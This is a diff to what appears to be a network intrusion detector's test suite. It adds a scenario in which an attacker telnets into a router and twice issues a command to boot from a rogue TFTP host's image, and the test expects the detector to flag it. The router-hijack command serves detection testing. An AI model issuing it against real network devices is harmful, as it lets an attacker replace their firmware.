@@ -75,6 +75,24 @@ def bw30_buried_in_orders(wire: Wire) -> None:
 
 @scenario(
     "BW30",
+    "malicious",
+    raises=[("BW07", 0, ATTACKER, DEVICE), ("BW07", 0, ATTACKER, DEVICE), ("BW30", 0, ROGUE, DEVICE)],
+    site=ADMINS_ONLY,
+    with_site=Expect((Notice("Boot_Command", DEVICE, ROGUE, EVIL), hijack(DEVICE, EVIL))),
+)
+def bw30_told_again_the_next_morning(wire: Wire) -> None:
+    """A router is told to boot from elsewhere, again after 23 hours, and fetches the image two hours later."""
+    for hours in (23, 2):
+        session = Telnet(wire, ATTACKER, DEVICE, prompt="edge1(config)#")
+        session.login()
+        session.typed(f"boot system tftp {EVIL} {ROGUE}")
+        session.close()
+        wire.wait(hours * 3600)
+    tftp.read(wire, DEVICE, ROGUE, EVIL, EVIL_IMAGE)
+
+
+@scenario(
+    "BW30",
     "benign",
     site=HQ,
     with_site=Expect((Notice("Rogue_Boot_Options", OFFERED, ROGUE, "evil.efi"), *rogue_image(PC, EVIL))),
